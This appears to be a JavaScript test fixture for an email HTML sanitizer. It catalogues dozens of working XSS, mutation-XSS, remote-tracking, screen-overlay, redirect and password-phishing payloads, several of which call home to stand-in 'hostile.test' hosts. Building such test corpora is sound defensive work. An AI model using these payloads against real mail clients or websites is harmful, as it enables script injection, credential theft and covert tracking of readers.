/**
 * HTML that mail has been attacked with, in its published forms, by the rows of section E: what runs, what turns
 * into something else when it is parsed again, what calls home, what draws where it should not, and what leads away.
 */

/** Says by every way there is that a script ran. */
const RUN = "console.log('ran');top.postMessage('ran','*');document.title='ran';alert('ran');fetch('{H}/ran')";
/** The same without quotes that would end an attribute. */
const RUN_PLAIN = "console.log(`ran`)";

/** @type {Record<string, [name: string, html: string][]>} `{H}` stands for a host of the payload's own */
const ROWS = {
	E1: [
		["script", `<script>${RUN}</script>`],
		["script from elsewhere", `<script src="{H}/x.js"></script>`],
		["script, a module", `<script type=module>${RUN}</script>`],
		["script in two", `<scr<script>ipt>${RUN}</scr</script>ipt>`],
		["script never closed", `<script>${RUN}`],
		["handler of a picture", `<img src=x onerror="${RUN}">`],
		["handler without spaces", `<img/src=x/onerror=${RUN_PLAIN}>`],
		["handler behind a broken attribute", `<img """><script>${RUN}</script>">`],
		["handler of the body", `<body onload="${RUN}" onpageshow="${RUN}">x</body>`],
		["handler by focus", `<div tabindex=0 autofocus onfocus="${RUN}">x</div><a href=# autofocus onfocus="${RUN}">y</a>`],
		["handler of an animation", `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${RUN}">x</b>`],
		["handler of a transition", `<b style="transition:color 1s" ontransitionrun="${RUN}" onpointerover="${RUN}">x</b>`],
		["handler of details", `<details open ontoggle="${RUN}"><summary>x</summary>y</details>`],
		["handler of a scroll", `<div style="overflow:auto;height:9px" onscroll="${RUN}" onscrollsnapchange="${RUN}">x<br>x</div>`],
		["handler of a medium", `<video onerror="${RUN}"><source src=x></video><audio src=x onerror="${RUN}"></audio>`],
		["handler of visibility", `<b style="content-visibility:auto" oncontentvisibilityautostatechange="${RUN}">x</b>`],
		["javascript: link", `<a href="javascript:${RUN}">press here</a>`],
		["javascript: by references", `<a href="&#x6a;avascript:${RUN_PLAIN}">press here</a>`],
		["javascript: with a tab and a line end", `<a href="java&Tab;scr&NewLine;ipt:${RUN_PLAIN}">press here</a>`],
		["javascript: behind controls", `<a href="&#1;&#x20;javascript:${RUN_PLAIN}">press here</a>`],
		["javascript: in capitals", `<a href="JaVaScRiPt&colon;${RUN_PLAIN}">press here</a>`],
		["vbscript: link", `<a href="vbscript:msgbox(1)">press here</a>`],
		["data: link", `<a href="data:text/html,<script>${RUN_PLAIN}</script>">press here</a>`],
		["data: picture of HTML", `<img src="data:text/html,<script>${RUN_PLAIN}</script>">`],
		["blob:, file: and filesystem: links", `<a href="blob:{H}/1">x</a><a href="file:///etc/passwd">y</a><a href="filesystem:{H}/z">z</a>`],
		["javascript: picture", `<img src="javascript:${RUN_PLAIN}"><img lowsrc="javascript:${RUN_PLAIN}" dynsrc="{H}/d">`],
	],
	E2: [
		["svg onload", `<svg onload="${RUN}"><circle r=1></svg>`],
		["svg script", `<svg><script href="{H}/x.js"></script><script>${RUN}</script></svg>`],
		["svg animate", `<svg><a><animate attributeName=href values="javascript:${RUN_PLAIN}" /><text y=20>press</text></a></svg>`],
		["svg set", `<svg><set attributeName=onmouseover to="${RUN_PLAIN}" onbegin="${RUN}"></svg>`],
		["svg use", `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${RUN_PLAIN}'/>#x"></svg>`],
		["svg foreignObject", `<svg><foreignObject><body onload="${RUN}"><iframe srcdoc="<script>${RUN_PLAIN}</script>"></foreignObject></svg>`],
		["svg image and feImage", `<svg><image href="{H}/i.png"/><filter id=f><feImage href="{H}/f.png"/></filter></svg>`],
		["svg title and style", `<svg></p><style><a id="</style><img src=1 onerror=${RUN_PLAIN}>">`],
		["math mglyph style", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN_PLAIN}&gt;">`],
		["math malignmark", `<math><mtext><table><malignmark><style><img title="</style><img src=1 onerror=${RUN_PLAIN}>">`],
		["math annotation-xml", `<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=${RUN_PLAIN}>">`],
		["math link", `<math href="javascript:${RUN_PLAIN}">press</math><math><maction actiontype="statusline" xlink:href="javascript:${RUN_PLAIN}">x</maction></math>`],
		["form in a form", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN_PLAIN}>`],
		["noscript", `<noscript><p title="</noscript><img src=x onerror=${RUN_PLAIN}>"></noscript>`],
		["noembed, noframes and xmp", `<noembed><p title="</noembed><img src=x onerror=${RUN_PLAIN}>"></noembed><noframes><p title="</noframes><img src=x onerror=${RUN_PLAIN}>"></noframes><xmp><p title="</xmp><img src=x onerror=${RUN_PLAIN}>">`],
		["template", `<template><img src=x onerror="${RUN}"><script>${RUN}</script></template>`],
		["declarative shadow root", `<div><template shadowrootmode=open><img src="{H}/s.png" onerror="${RUN}"></template></div>`],
		["select and style", `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${RUN_PLAIN}>">`],
		["textarea and title", `<textarea><img title="</textarea><img src=x onerror=${RUN_PLAIN}>"></textarea><title><img title="</title><img src=x onerror=${RUN_PLAIN}>">`],
		["comment that ends early", `<!--><img src=x onerror="${RUN}">--><!--a--!><img src=x onerror="${RUN}">-->`],
		["CDATA and processing", `<svg><![CDATA[><img src=x onerror=${RUN_PLAIN}>]]></svg><?xml-stylesheet href="{H}/x.xsl"?><img src=x onerror=${RUN_PLAIN}>`],
		["nested deep", `${"<div>".repeat(600)}<svg>${"<b>".repeat(20)}<style><a title="</style><img src onerror=${RUN_PLAIN}>">`],
		["table that throws out its content", `<table><style><a title="</style><img src=x onerror=${RUN_PLAIN}>"></table><table><svg><style><img src=x onerror=${RUN_PLAIN}>`],
		["style that ends in a string", `<style>a::after{content:"\\3c/style><img src=x onerror=${RUN_PLAIN}>"}</style>`],
		["style that ends in a selector", `<style>a[title="<\\/style><img src=x onerror=${RUN_PLAIN}>"]{color:red}</style>`],
		["names of the page's own", `<img name=body><form id=head></form><a id=ownerDocument name=querySelector></a><img id=outerHTML>`],
	],
	E3: [
		["picture", `<img src="{H}/i.png"><img src="//{B}/j.png"><input type=image src="{H}/k.png">`],
		["picture at a host with a line end", `<img src="ht&#10;tps://{B}/i.png"><img src=" {H}/j.png"><img src="\\\\{B}\\k.png">`],
		["srcset", `<img srcset="{H}/1.png 1x, {H}/2.png 2x"><picture><source srcset="{H}/3.png"><img src="{H}/4.png" sizes=100vw></picture>`],
		["background attributes", `<body background="{H}/b.png"><table background="{H}/t.png"><tr><td background="{H}/c.png">x</table>`],
		["url() of a style attribute", `<div style="background:url({H}/1.png)">x</div><ul style="list-style-image:url('{H}/2.png')"><li>y</ul>`],
		["url() of a style element", `<style>body{background:url({H}/1.png)} p::before{content:url({H}/2.png)}</style><p>x</p>`],
		["url() by escapes", `<div style="background:u\\72l({H}/1.png)">x</div><div style="background:\\75\\72\\6c({H}/2.png)">y</div>`],
		["url() by a variable", `<style>:root{--u:url({H}/1.png);--e:u\\72l({H}/2.png)} p{background:var(--u)} b{background:var(--e)}</style><p>x<b>y</b></p>`],
		["url() behind a variable", `<p style="--x:0 0;background:url({H}/1.png) var(--x)">x</p>`],
		["url() never closed", `<div style="background:url({H}/1.png">x</div><style>p{background:url({H}/2.png`],
		["url() in a comment's shadow", `<style>p{background:/*</style>*/url({H}/1.png)}</style><p style="background:url(/**/{H}/2.png)">x</p>`],
		["image-set()", `<p style="background:image-set('{H}/1.png' 1x)">x</p><p style="background:-webkit-image-set(url({H}/2.png) 1x)">y</p>`],
		["cross-fade() and image()", `<p style="background:-webkit-cross-fade(url({H}/1.png),url({H}/2.png),50%)">x</p><p style="background:image('{H}/3.png')">y</p>`],
		["src() and attr()", `<p data-u="{H}/1.png" style="background:src('{H}/2.png')">x</p><p title="{H}/3.png" style="background:image-set(attr(title))">y</p>`],
		["cursor, filter, mask, border and shape", `<p style="cursor:url({H}/1.cur),auto;filter:url({H}/2.svg#f);mask:url({H}/3.svg#m)">x</p><p style="border-image:url({H}/4.png);shape-outside:url({H}/5.png);float:left;clip-path:url({H}/6.svg#c)">y</p>`],
		["@import", `<style>@import url({H}/1.css);@import "{H}/2.css" screen;@import '{H}/3.css'</style>`],
		["@font-face", `<style>@font-face{font-family:x;src:url({H}/1.woff2)} p{font-family:x}</style><p>x</p>`],
		["styles inside rules", `<style>@media all{p{background:url({H}/1.png)}} @supports (color:red){p{background:url({H}/2.png)}} @layer a{p{background:url({H}/3.png)}} p{&{background:url({H}/4.png)}} @keyframes k{from{background:url({H}/5.png)}} p{animation:k 1s}</style><p>x</p>`],
		["@namespace and @document", `<style>@namespace url({H}/n);@document url({H}/d){p{color:red}} @counter-style c{symbols:url({H}/s.png)}</style><p>x</p>`],
		["stylesheet", `<link rel=stylesheet href="{H}/1.css"><link rel="alternate stylesheet" href="{H}/2.css" title=x>`],
		["preload, prefetch and prerender", `<link rel=preload as=image href="{H}/1.png"><link rel=prefetch href="{H}/2"><link rel=prerender href="{H}/3"><link rel=modulepreload href="{H}/4.js">`],
		["preconnect", `<link rel=preconnect href="{H}"><link rel="preconnect" href="{H}" crossorigin>`],
		["dns-prefetch", `<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href="//{B}">`],
		["icon and manifest", `<link rel=icon href="{H}/i.ico"><link rel=manifest href="{H}/m.json"><link rel=apple-touch-icon href="{H}/a.png">`],
		["video, audio and track", `<video poster="{H}/1.png" src="{H}/2.mp4" autoplay><track src="{H}/3.vtt" default></video><audio src="{H}/4.mp3" autoplay preload=auto></audio>`],
		["svg fill and mask", `<svg><rect fill="url({H}/1.svg#f)" width=9 height=9 /><rect mask="url({H}/2.svg#m)" style="fill:url({H}/3.svg#f)" width=9 height=9 /></svg>`],
		["svg picture as data:", `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{H}/1.png'/></svg>">`],
		["meta refresh", `<meta http-equiv=refresh content="0;url={H}/r"><meta http-equiv="Refresh" content="0; javascript:${RUN_PLAIN}">`],
		["speculation rules", `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{H}/1"],"eagerness":"immediate"}]}</script>`],
		["ping", `<a href="{H}/a" ping="{H}/p" attributionsrc="{H}/t">press here</a><img attributionsrc="{H}/u">`],
		["frameset and old elements", `<bgsound src="{H}/1.mid"><layer src="{H}/2"></layer><isindex action="{H}/3"><applet code=x archive="{H}/4.jar"></applet><frameset><frame src="{H}/5"></frameset>`],
	],
	E4: [
		["fixed over everything", `<div style="position:fixed!important;inset:0!important;width:200vw;height:200vh;z-index:2147483647!important;background:#f00">Your session ended. Sign in</div>`],
		["out of the frame by margins", `<div style="position:absolute;top:-2000px;left:-2000px;width:6000px;height:6000px;margin:-500px;background:#f00">x</div>`],
		["out of the frame by a transform", `<div style="transform:translate(-400px,-300px) scale(9);background:#f00">x</div>`],
		["styles for the page around", `<style>html,body,main,.side,iframe,#app{display:none!important;background:#f00!important} ::backdrop{background:#f00}</style>x`],
		["in the top layer", `<dialog open style="position:fixed;inset:0">x</dialog><div popover=manual id=p style="display:block;position:fixed;inset:0;background:#f00">y</div><button popovertarget=p>z</button>`],
	],
	E5: [
		["form", `<form action="{H}/f" method=post target=_top><input name=password type=password><button>Sign in</button></form>`],
		["button with its own action", `<form id=f></form><button form=f formaction="javascript:${RUN_PLAIN}">x</button><input type=submit form=f formaction="{H}/g"><isindex>`],
		["base", `<base href="{H}/"><base target=_top><img src="i.png"><a href="page">press here</a>`],
		["link to the top", `<a href="{H}/top" target=_top>press here</a><a href="{H}/parent" target=_parent>or here</a><area href="{H}/area" target=_top>`],
		["iframe", `<iframe src="{H}/1"></iframe><iframe srcdoc="<script>${RUN_PLAIN}</script><img src={H}/2.png>"></iframe><iframe src="javascript:${RUN_PLAIN}"></iframe>`],
		["object and embed", `<object data="{H}/1.swf" type="text/html"><param name=movie value="{H}/2.swf"></object><embed src="{H}/3.swf"><embed src="javascript:${RUN_PLAIN}">`],
		["portal and fencedframe", `<portal src="{H}/1"></portal><fencedframe></fencedframe><webview src="{H}/2"></webview>`],
		["map", `<img usemap=#m src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width=99 height=99><map name=m><area shape=default href="javascript:${RUN_PLAIN}" target=_top></map>`],
		["custom element", `<x-evil is=script onclick="${RUN}">x</x-evil><b is="x-evil" onclick="${RUN}">y</b>`],
	],
	E10: [
		["name turned around", `<p>\u202eMOC.ELPMAXE@NNA\u202c</p><a href="{H}/x">\u202emoc.elpmaxe\u202c</a>`],
	],
};

/** Each as one mail, with a host of its own by which it is known who called. */
export const payloads = Object.entries(ROWS).flatMap(([row, list]) => list.map(([name, html]) => ({ name: `${row} ${name}`, html })));
for (const [n, payload] of payloads.entries()) {
	payload.host = `p${n}.hostile.test`;
	payload.html = payload.html.replaceAll("{H}", `https://${payload.host}`).replaceAll("{B}", payload.host);
}
